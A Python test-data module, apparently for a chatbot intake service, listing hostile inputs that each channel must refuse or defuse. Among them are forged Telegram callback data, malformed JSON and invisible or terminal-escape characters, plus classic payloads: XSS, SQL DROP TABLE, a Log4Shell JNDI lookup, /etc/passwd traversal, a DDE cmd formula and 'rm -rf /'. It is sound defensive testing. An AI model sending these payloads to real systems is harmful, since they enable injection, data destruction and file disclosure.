"""The catalogue itself: data only, no test logic."""

from __future__ import annotations

# Forged Telegram callback data for a choice button, given the live keyboard's nonce. Each must
# be answered as a stale button: no exception, no answer recorded, the question still open.
FORGED_CHOICE_INDEXES = (
    "\u00b2",  # superscript two: str.isdigit() is True, int() refuses it
    "\u0663",  # Arabic-Indic three: int() accepts it
    "\uff11",  # fullwidth one
    "1" * 5000,  # far past int()'s 4,300-digit limit, and past Telegram's 64 bytes
    "-1",
    "+1",
    " 1",
    "1 ",
    "01",
    "1e3",
    "0x1",
    "",
)


def forged_callbacks(nonce: str) -> list[str]:
    """Whole callback data strings built on a real nonce, plus shapes that are not ours."""
    data = [f"k|{nonce}|c|{index}" for index in FORGED_CHOICE_INDEXES]
    data += [
        f"k|{nonce}|c|999",  # well-formed, but past the end of the keyboard
        f"k|{nonce}|m|rm -rf",
        f"k|{nonce}|m|" + "x" * 40,
        f"k|{nonce}|l|de",
        f"k|{nonce}|r|1",
        f"k|{nonce}|c|1|extra",
        f"k|{nonce}\u0000|c|1",
        "k|" + "n" * 60 + "|c|1",
        "k||c|1",
        "|||",
        "\u202ek|x|c|1",
        "k|" * 2000,
    ]
    return data


# `ke-intake chat --json` lines that are not a documented shape: each must be answered with the
# refusal and leave the question where it was (nothing stored, nothing crashed).
BAD_JSON_LINES = (
    '{"text": 123}',
    '{"text": null}',
    '{"text": ["Kari"]}',
    '{"text": {"nested": "Kari"}}',
    "null",
    "true",
    "[]",
    '["Kari"]',
    '"Kari"',
    '{"command": "rm"}',
    '{"command": "rm -rf /"}',
    '{"command": "edit", "arg": {"x": 1}}',
    '{"choice": true}',
    '{"choice": null}',
    '{"choice": 1e308}',
    '{"choices": "parent"}',
    '{"choices": [[1]]}',
    '{"choices": []}',
    '{"text": "Kari", "choice": "self"}',
    "{}",
    '{"unknown": 1}',
    "{not json",
    '{"text": "\\ud800"}' + "x" * 3,
    "[" * 100_000 + "]" * 100_000,  # past any recursion limit
    '{"a":' * 50_000 + "1" + "}" * 50_000,
    '{"text": "' + "x" * 70_000 + '"}',  # longer than any answer could be
)

# Answers a free-text or name field must refuse once the invisible and escape characters are
# gone (the field would be left empty), whatever channel they came through.
EMPTY_AFTER_CLEANING = (
    "\u3164",  # Hangul filler: a "letter" that shows as nothing
    "\u3164\u3164\u3164",
    "\u2800",  # braille blank
    "\u200b\u200c\u200d\u2060",  # zero-width characters
    "\u202e\u2066\u2069",  # bidi override and isolates
    "\x1b[2J\x1b[31m",  # clear screen, red
    "[2J[31m",  # the same with the ESC already gone
    "\x1b]0;title\x07",  # an OSC sequence that retitles the terminal
    "\x00\x01\x7f",
    "\ufe0f\ufe0f",  # variation selectors alone
)

# Stored as typed (it is what the person wrote) but defused in every export.
FORMULAS = ('=HYPERLINK("http://example.invalid","klikk")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0")

# A synthetic national id (tests.synthetic rules, born 2032: never a real person's), sent
# inside a hostile answer: no error may repeat it.
PERSONAL_PROBE = "02013299997"

# THE list of hostile free-text answers: every channel's test sends each of them, in one
# conversation, as what the person typed (tests/hostile/test_*_hostile.py). Each must be answered
# (no crash, no traceback or stack in the reply), never echo a control, bidi or invisible
# character back, never repeat the national id, and never be stored with one of those characters.
HOSTILE_ANSWERS = (
    *EMPTY_AFTER_CLEANING,
    *FORMULAS,
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}#{7*7}",
    "'; DROP TABLE referrals;--",
    "${jndi:ldap://example.invalid/a}",
    "../../../etc/passwd",
    "%s%n%x%d{0}{}",
    "Kari\u202eNordmann\u200b",
    "\x1b[31mKari\x1b[0m",
    "A\u0301se\ufeff",
    f"\u202e{PERSONAL_PROBE}\u202c",
    "\u0663\u0660\u0660\u0660\u0660",  # Arabic-Indic 30000
    "1" * 5000,
    "\U0001f600" * 2000,  # 8,000 bytes of emoji
    "x" * 70_000,  # longer than any answer may be
)
